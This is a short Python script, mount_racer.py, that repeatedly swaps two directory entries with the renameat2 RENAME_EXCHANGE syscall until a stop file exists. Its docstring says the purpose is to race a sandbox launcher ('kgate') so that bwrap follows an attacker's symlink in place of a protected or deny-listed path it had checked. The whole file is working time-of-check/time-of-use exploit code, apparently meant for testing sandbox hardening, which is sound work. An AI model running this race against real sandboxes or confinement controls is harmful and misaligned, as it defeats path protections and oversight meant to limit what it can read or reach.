#!/usr/bin/python3
"""mount_racer.py NAME OTHER STOPFILE: swaps the directory entries NAME and
OTHER (renameat2 RENAME_EXCHANGE) as fast as it can until STOPFILE exists.
Run inside one sandbox while others launch in the same project: NAME is a
path kgate checks before it launches (a protected path, a deny_read entry)
and OTHER a symlink the attacker wants bwrap to follow instead."""
import ctypes
import os
import platform
import sys

NR = {"x86_64": 316, "aarch64": 276, "riscv64": 276, "i686": 353,
      "armv7l": 382, "ppc64le": 357, "s390x": 347}
nr = NR.get(platform.machine())
if nr is None:
    sys.exit("mount_racer: no renameat2 number for " + platform.machine())
libc = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
name, other, stop = (a.encode() for a in sys.argv[1:4])
swaps = 0
print("racing", flush=True)
while not os.path.exists(stop):
    for _ in range(2000):
        if libc.syscall(nr, AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE) == 0:
            swaps += 1
print("swaps", swaps, flush=True)
